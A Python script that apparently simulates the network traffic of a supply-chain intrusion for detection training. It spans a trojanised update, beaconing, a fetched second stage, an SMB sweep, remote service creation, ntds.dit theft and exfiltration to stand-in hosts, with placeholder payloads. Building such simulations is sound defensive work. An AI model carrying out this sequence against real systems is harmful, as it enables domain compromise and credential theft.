"""A supply-chain beacon over TLS: a vendor's update, a beacon every five minutes, then somebody comes."""

import daily
import protocols
import windows
from packets import SECOND, Dice, Talk
from protocols import request, response
from scenarios import DESKS, DIRECTORY, FILES, QUEUE, LINUX

VENDOR, CONTROL, SECOND_STAGE = "192.0.2.150", "203.0.113.201", "203.0.113.202"


def play(city):
    """All of it."""
    city.campaign("C1", "The queue system's vendor is not alone")
    start = city.T(120)
    talk = Talk(city.hall, start, QUEUE, 41010, VENDOR, 80, 21000, LINUX).open()
    talk.ask(request("GET", "/queue/update-4.2.1.zip", "update.queue-vendor.example", agent="QueueUpdater/4.2"))
    talk.answer(response(body=b"PK\x03\x04" + Dice("update").bytes(16000), kind="application/zip")).close()
    city.did((start, talk.now), "T1195.002", "initial-access", QUEUE, VENDOR, "an update of the vendor with a program in it", visible="none")
    start, now, number, dice = city.T(420), city.T(420), 0, Dice("beacon")
    while now < city.T(5400):
        talk = Talk(city.hall, now, QUEUE, 41100 + number, CONTROL, 443, 21000, LINUX)
        end = protocols.tls(talk, "teamserver").now
        number += 1
        now += 280 * SECOND + dice.below(40 * SECOND)
    city.did((start, end), "T1071.001", "command-and-control", QUEUE, CONTROL, "beacon over TLS every five minutes, with a team server's certificate")
    start = city.T(2400)
    talk = Talk(city.hall, start, QUEUE, 41310, SECOND_STAGE, 8000, 21000, LINUX).open()
    talk.ask(request("GET", "/linux/agent.sh", f"{SECOND_STAGE}:8000", [("Accept", "*/*")], agent="curl/7.61.1"))
    talk.answer(response(body="#!/bin/sh\n" + Dice("agent").bytes(900).hex(), kind="text/x-sh")).close()
    city.did((start, talk.now), "T1105", "command-and-control", QUEUE, SECOND_STAGE, "a second program fetched by address")
    start = now = city.T(2700)
    for last in range(1, 50):
        host = f"10.32.10.{last}"
        talk = Talk(city.hall, now, QUEUE, 41400 + last, host, 445, 1500, LINUX)
        talk.open().reset() if host in (FILES, DIRECTORY, DESKS[2]) else talk.unanswered()
        now += 800_000
    city.did((start, now), "T1046", "discovery", QUEUE, FILES, "the hall's network swept for SMB")
    start = city.T(3000)
    smb = windows.SMBTalk(city.hall, start, QUEUE, 41520, DIRECTORY, "DC1").negotiate().log_in("svc-queue", "CITY")
    smb.connect(f"\\\\{DIRECTORY}\\IPC$").open("svcctl").write("svcctl", windows.bind(windows.uuid("367abb81-9844-35f1-ad32-98f038001003"), 2))
    smb.write("svcctl", windows.call(12, windows.service(bytes(4) + Dice("handle").bytes(16), "upd", "cmd.exe /c whoami")))
    smb.close()
    city.did((start, smb.talk.now), "T1569.002", "execution", QUEUE, DIRECTORY, "a service set up on the directory server")
    start = city.T(3300)
    smb = windows.SMBTalk(city.hall, start, QUEUE, 41540, DIRECTORY, "DC1").negotiate().log_in("svc-queue", "CITY")
    smb.connect(f"\\\\{DIRECTORY}\\C$").open("Windows\\Temp\\ntds.dit").close()
    city.did((start, smb.talk.now), "T1003.003", "credential-access", QUEUE, DIRECTORY, "the directory's database carried away")
    start = city.T(3900)
    talk = Talk(city.hall, start, QUEUE, 41600, SECOND_STAGE, 80, 21000, LINUX).open()
    talk.ask(request("POST", "/r", SECOND_STAGE, [("Content-Type", "application/octet-stream")], b"7z\xbc\xaf\x27\x1c\0\x04" + Dice("loot").bytes(48000), "curl/7.61.1"))
    talk.answer(response(body="ok", kind="text/plain")).close()
    city.did((start, talk.now), "T1048.003", "exfiltration", QUEUE, SECOND_STAGE, "a 7-Zip archive sent out")
    for number in range(18):
        daily.secure_visit(city.hall, city.T(200 + number * 300), DESKS[6], "192.0.2.82", "update", delay=21000)
    city.looks_bad(200, DESKS[6], "192.0.2.82", "an update service asks every five minutes")
    city.everyday(5700)
